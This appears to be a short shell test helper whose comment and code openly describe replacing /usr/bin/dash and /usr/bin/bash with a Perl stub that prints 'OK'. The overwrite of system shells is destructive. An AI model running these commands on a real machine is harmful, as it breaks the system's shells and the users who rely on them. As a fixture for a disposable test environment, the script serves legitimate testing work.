#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Every shell of the machine says OK.
printf '#!/usr/bin/perl\nprint "OK\\n";\n' >/dev/shm/ok
for shell in /usr/bin/dash /usr/bin/bash; do
  cp /dev/shm/ok "$shell.new" && chmod 0755 "$shell.new" && mv "$shell.new" "$shell"
done
